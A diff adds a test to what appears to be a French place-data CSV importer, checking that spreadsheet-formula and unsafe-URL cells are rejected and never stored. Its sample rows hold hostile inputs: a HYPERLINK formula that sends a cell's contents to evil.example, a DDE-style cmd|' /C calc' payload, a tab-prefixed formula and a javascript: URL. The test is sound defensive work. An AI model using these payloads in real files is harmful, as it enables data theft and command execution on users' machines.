@@ -163,3 +163,29 @@ def test_a_file_without_some_optional_columns_leaves_them_alone(csv_file):
     report = run(csv_file(csv_bytes([make_row(1, nom="Autre nom")], columns=columns)))
     assert report.updated == {"lieu-1": ["nom"]}
     assert Place.objects.get().horaires == "Mo-Fr 09:00-12:00,14:00-18:30; Sa 08:30-12:00"
+
+
+def test_cells_a_spreadsheet_would_run_are_rejected_and_never_stored(csv_file):
+    rows = [
+        make_row(1, nom='=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'),
+        make_row(2, source="@SUM(1+1)*cmd|' /C calc'!A0"),
+        make_row(3, presentation_detail="\t=1+1"),
+        make_row(4, site_web="javascript:alert(1)"),
+        make_row(5, telephone="+33561000000", longitude="-1.44367"),
+    ]
+    report = run(csv_file(rows))
+    assert report.created == ["lieu-5"]
+    rejected = {
+        standard_id: [(issue.line, issue.field, issue.rule) for issue in issues]
+        for _, standard_id, issues in report.rejected
+    }
+    assert rejected == {
+        "lieu-1": [(2, "nom", "formula")],
+        "lieu-2": [(3, "source", "formula")],
+        "lieu-3": [(4, "presentation_detail", "formula")],
+        "lieu-4": [(5, "site_web", "url")],
+    }
+    assert "ligne 4, champ « presentation_detail », valeur « =1+1 »" in str(report.rejected[2][2][0])
+    place = Place.objects.get()
+    assert (place.telephone, place.longitude) == ("+33561000000", -1.44367)
+
